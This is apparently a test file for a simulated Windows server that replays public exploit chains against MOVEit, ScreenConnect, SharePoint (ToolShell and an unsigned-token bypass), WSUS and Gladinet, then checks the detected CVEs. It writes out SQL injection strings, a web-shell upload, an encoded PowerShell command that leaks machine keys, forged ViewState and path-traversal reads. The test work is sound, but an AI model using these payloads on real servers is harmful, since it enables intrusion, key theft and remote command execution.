/** The steps of public exploits of Windows servers: administrators, keys, tokens and cookies, then used. */

import { createHmac } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';
import { zipArchive } from '../../../../test/support/sample-archive.ts';

const machine = webMachine('windows-server', ['moveit', 'screenconnect', 'sharepoint', 'wsus', 'gladinet']);

describe('Windows servers', () => {
  it('MOVEit gives a token to the session that SQL made (CVE-2023-34362)', () => {
    const persona = machine;
    const visitor = stranger(persona);
    const grant = 'grant_type=session&username=x&password=x';
    const session = { Cookie: 'ASP.NET_SessionId=q1w2e3' };
    expect(visitor.form('/api/v1/auth/token', grant, session).status).toBe(400);
    const transact = (value: string) =>
      visitor.send('POST', '/moveitisapi/moveitisapi.dll?action=m2', {
        'X-siLock-Transaction': 'session_setvars',
        'X-siLock-SessVar0': value,
      });
    transact('MyUsername: Guest');
    const csrf = (): string =>
      /name="csrftoken" value="(\w+)"/.exec(visitor.form('/guestaccess.aspx', 'Arg06=123').body)?.[1] ?? '';
    const sent = transact(
      "MyPkgSelfProvisionedRecips: a'); INSERT INTO activesessions (SessionID) values ('q1w2e3');UPDATE activesessions SET Timeout='60' WHERE SessionID='q1w2e3'; -- a",
    );
    expect(sent.cves).toContain('CVE-2023-34362');
    expect(visitor.form('/api/v1/auth/token', grant, session).status).toBe(400);
    visitor.form(
      '/guestaccess.aspx',
      `CsrfToken=${csrf()}&transaction=secmsgpost&Arg01=a&Arg04=b&Arg06=123&Arg05=send&Arg08=a%40b.example`,
    );
    const token = visitor.form('/api/v1/auth/token', grant, session);
    expect(token.body).toContain('{"access_token":');
    const bearer = { Authorization: `Bearer ${/"access_token":"(\w+)"/.exec(token.body)?.[1] ?? ''}` };
    const folder = /"id":(\d+)/.exec(visitor.get('/api/v1/folders', bearer).body)?.[1] ?? '';
    expect(
      visitor.send('POST', `/api/v1/folders/${folder}/files?uploadType=resumable`, bearer, 'x').body,
    ).toContain('"fileId"');
    expect(
      visitor.send('PUT', `/api/v1/folders/${folder}/files?uploadType=resumable&fileId=1`, bearer, 'x')
        .status,
    ).toBe(500);
    expect(stranger(persona).get('/api/v1/folders', bearer).status).toBe(401);
  });

  it('ScreenConnect makes an administrator in its wizard, who installs an extension that runs commands (CVE-2024-1709)', () => {
    const visitor = stranger(machine);
    const wizard = visitor.get('/SetupWizard.aspx/x');
    expect(wizard.cves).toContain('CVE-2024-1709');
    expect(wizard.body).toContain('__VIEWSTATEGENERATOR');
    const made = visitor.form(
      '/SetupWizard.aspx/x',
      'ctl00%24Main%24wizard%24userNameBox=mallory&ctl00%24Main%24wizard%24passwordBox=pa55&ctl00%24Main%24wizard%24emailBox=m%40a.example',
    );
    expect(made.status).toBe(302);
    const session = { Cookie: `.ASPXAUTH=${cookieOf(made, '.ASPXAUTH')}` };
    expect(visitor.get('/Administration', session).body).toContain('antiForgeryToken');
    const page =
      '<% @ webhandler language="C#" class="A" %> using System.Diagnostics; p.StartInfo.Arguments = "/c " + context.Request["cmd"];';
    const archive = Buffer.from(zipArchive({ '..\\a.ashx': page }), 'latin1').toString('base64');
    visitor.json('/Services/ExtensionService.ashx/InstallExtension', [archive], session);
    expect(visitor.get('/App_Extensions/a.ashx?cmd=whoami').body).toContain('iis apppool\\defaultapppool');
    const again = visitor.form(
      '/Login',
      'ctl00%24Main%24userNameBox=mallory&ctl00%24Main%24passwordBox=pa55',
    );
    expect(again.status).toBe(302);
  });

  it('SharePoint writes the page of ToolShell, tells its keys, and runs what they sign (CVE-2025-53770, CVE-2025-53771)', () => {
    const persona = machine;
    const visitor = stranger(persona);
    const page = '/_layouts/15/spinstall0.aspx';
    expect(visitor.get(page).status).toBe(404);
    const source = Buffer.from(
      '<%@ Import Namespace="System.Web.Configuration" %><script runat="server">var s = (MachineKeySection)m.Invoke(null); Response.Write(s.ValidationKey);</script>',
    ).toString('base64');
    const script = `$b="${source}"; $d="C:\\PROGRA~1\\COMMON~1\\MICROS~1\\WEBSER~1\\16\\TEMPLATE\\LAYOUTS\\spinstall0.aspx"; [IO.File]::WriteAllBytes($d, $b)`;
    const command = `/c powershell -EncodedCommand ${Buffer.from(script, 'utf16le').toString('base64')}`;
    const schema = `<xs:schema/><diffgr><ExpandedElement/><MethodParameters><anyType xsi:type="xsd:string">${Buffer.from(`\u0001\u0000LosFormatter cmd.exe ${command}`).toString('base64')}</anyType></MethodParameters></diffgr>`;
    const table = gzipSync(Buffer.from(schema)).toString('base64');
    const dwp = `<%@ Register Tagprefix="Scorecard" %><Scorecard:ExcelDataSet CompressedDataTable="${table}" DataTable-CaseSensitive="false" runat="server" />`;
    const strike = visitor.form(
      '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx',
      `MSOTlPn_Uri=http%3A%2F%2Fa%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP=${encodeURIComponent(dwp)}`,
      { Referer: '/_layouts/SignOut.aspx' },
    );
    expect(strike.cves).toEqual(expect.arrayContaining(['CVE-2025-53770', 'CVE-2025-53771']));
    expect(strike.headers).toContain('MicrosoftSharePointTeamServices: 16.0.0.10337');
    const told = visitor.get(page).body;
    expect(told).toMatch(/^[0-9A-F]{64}\|HMACSHA256\|[0-9A-F]{64}\|Auto\|Framework20SP1$/);
    expect(stranger(persona).get(page).status).toBe(404);
    const payload = Buffer.from('\xff\x01\x32cmd /c echo 4711 \x00\x00', 'latin1');
    const signed = (key: string): string => {
      const mac = createHmac('sha256', Buffer.from(key, 'hex'))
        .update(payload)
        .update(Buffer.from('CA0B0334', 'hex').reverse())
        .digest();
      return encodeURIComponent(Buffer.concat([payload, mac]).toString('base64'));
    };
    const state = (text: string) =>
      visitor.form('/_layouts/15/success.aspx', `__VIEWSTATE=${text}&__VIEWSTATEGENERATOR=CA0B0334`);
    expect(state(signed('00'.repeat(32))).facts.some((fact) => fact.kind === 'command')).toBe(false);
    expect(state(signed(told.slice(0, 64))).facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: expect.stringContaining('echo 4711') }),
    );
  });

  it('SharePoint takes a metadata model from a token that nobody signed, and runs it (CVE-2023-29357)', () => {
    const visitor = stranger(machine);
    expect(visitor.get('/_api/web/siteusers').status).toBe(404);
    const none = {
      Authorization: `Bearer ${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"aud":"x"}').toString('base64url')}.AAA`,
    };
    const users = visitor.get('/_api/web/siteusers', none);
    expect(users.cves).toContain('CVE-2023-29357');
    expect(users.body).toContain('"IsSiteAdmin":true');
    visitor.send(
      'POST',
      "/_api/web/GetFolderByServerRelativeUrl('/BusinessDataMetadataCatalog/')/Files/add(url='/BusinessDataMetadataCatalog/BDCMetadata.bdcm',overwrite=true)",
      none,
      '<Method><Property>cmd.exe /c whoami</Property></Method>',
    );
    expect(visitor.send('POST', '/_vti_bin/client.svc/ProcessQuery', none, '<Request/>').body).toContain(
      'iis apppool',
    );
  });

  it('WSUS registers a client and takes its event (CVE-2025-59287)', () => {
    const visitor = stranger(machine);
    const soap = (path: string, body: string) =>
      visitor.send(
        'POST',
        path,
        { 'Content-Type': 'text/xml' },
        `<soap:Envelope><soap:Body>${body}</soap:Body></soap:Envelope>`,
      );
    const reporting = '/ReportingWebService/ReportingWebService.asmx';
    const event = `<ReportEventBatch><MiscData><string>Administrator=SYSTEM</string><string>SynchronizationUpdateErrorsKey=${Buffer.from('AAA cmd /c echo struck').toString('base64')}</string></MiscData></ReportEventBatch>`;
    expect(soap(reporting, event).status).toBe(500);
    expect(soap(reporting, '<GetRollupConfiguration/>').body).toMatch(/<ServerId>[0-9a-f-]{36}<\/ServerId>/);
    const cookie =
      /<CookieData>(.*)<\/CookieData>/.exec(
        soap('/SimpleAuthWebService/SimpleAuth.asmx', '<GetAuthorizationCookie/>').body,
      )?.[1] ?? '';
    expect(
      soap('/ClientWebService/Client.asmx', `<GetCookie><CookieData>${cookie}</CookieData></GetCookie>`).body,
    ).toContain('<EncryptedData>');
    const struck = soap(reporting, event);
    expect(struck.cves).toContain('CVE-2025-59287');
    expect(struck.body).toContain('ReportEventBatchResult>true</ReportEventBatchResult>');
  });

  it('Gladinet makes an administrator for whom calls it localhost (CVE-2025-12480), and gives its configuration out', () => {
    const visitor = stranger(machine);
    const local = { Host: 'localhost' };
    expect(visitor.get('/management/AdminDatabase.aspx').status).toBe(404);
    expect(visitor.get('/management/AdminDatabase.aspx', local).body).toContain('Setup Triofox Database');
    const made = visitor.form('/management/AdminAccount.aspx', 'txtUserName=mallory&txtPassword=pa55', local);
    expect(made.cves).toContain('CVE-2025-12480');
    expect(visitor.form('/portal/loginpage.aspx', 'username=mallory&password=pa55').status).toBe(302);
    const read = visitor.get(
      '/storage/t.dn?s=..%5C..%5C..%5CProgram+Files+(x86)%5CGladinet+Cloud+Enterprise%5Croot%5CWeb.config&sid=1',
    );
    expect(read.cves).toContain('CVE-2025-11371');
    expect(read.body).toMatch(/validationKey="[0-9A-F]{128}"/);
  });
});
